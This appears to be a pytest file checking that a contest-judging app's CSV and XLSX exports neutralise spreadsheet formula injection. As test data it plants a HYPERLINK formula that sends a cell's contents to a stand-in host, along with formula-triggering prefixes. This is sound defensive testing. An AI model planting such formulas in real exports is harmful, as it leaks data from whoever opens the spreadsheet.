"""Spreadsheets never run what contestants or judges typed: formula injection in every export."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from judging import spreadsheet
from judging.rounds import assigned_entries
from judging.scoring import save_score
from storage.models import Entry
from tests.test_judging_web import FULL, started_round

FORMULA = '=HYPERLINK("http://x/?"&C2,"点击查看")'
STARTS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"]


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def xlsx_cells(data: bytes) -> list[Any]:
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("text", STARTS)
def test_csv_cells_that_start_like_a_formula_are_behind_an_apostrophe(text: str) -> None:
    cells = csv_cells(spreadsheet.to_csv(["title"], [[text], ["普通标题"], [-1.5]]))
    assert cells == ["title", "'" + text, "普通标题", "-1.5"]  # numbers stay numbers


@pytest.mark.parametrize("text", STARTS)
def test_xlsx_cells_that_start_like_a_formula_are_strings(text: str) -> None:
    cells = xlsx_cells(spreadsheet.to_xlsx(["title"], [[text], [3]], title="t"))
    assert [c.data_type for c in cells] == ["s", "s", "n"]
    # Excel shows the text as typed (XML keeps \r as \n); openpyxl wrote `=1` as a formula.
    assert cells[1].value.strip() == text.strip()


def assert_inert(response: Any, fmt: str) -> None:
    assert response.status_code == 200, response.status_code
    if fmt == "csv":
        cells = csv_cells(response.get_data(as_text=True))
        assert any(FORMULA in c for c in cells)
        assert not [c for c in cells if spreadsheet.is_formula_like(c)]
    else:
        cells = xlsx_cells(response.data)
        assert any(c.value == FORMULA for c in cells)
        assert not [c for c in cells if c.data_type == "f"]


def test_every_export_neutralises_formulas(
    client: FlaskClient, auth: Any, session: Session
) -> None:
    contest, judges, organizer, rnd = started_round(client, auth, session, seed=3)
    for entry in session.query(Entry).filter_by(contest_id=contest.id):
        entry.title = FORMULA
        entry.collective = "@" + FORMULA
    session.commit()
    for judge in judges:
        for entry in assigned_entries(session, rnd, judge.id):
            save_score(session, rnd, judge, entry, FULL, comment=FORMULA, submit=True)

    auth.login(organizer.username)
    for url in ("/admin/judging/results", "/admin/judging/scores", "/admin/entries"):
        for fmt in ("csv", "xlsx"):
            assert_inert(client.get(f"{url}.{fmt}"), fmt)
    client.post("/admin/judging/close")
    published = client.post("/admin/judging/publish", follow_redirects=True)
    snapshot = published.get_data(as_text=True).split('href="/announcements/')[1].split('"')[0]
    auth.logout()
    for fmt in ("csv", "xlsx"):
        assert_inert(client.get(f"/announcements/{snapshot}.{fmt}"), fmt)
    assert client.get(f"/announcements/{snapshot}.ods").status_code == 404
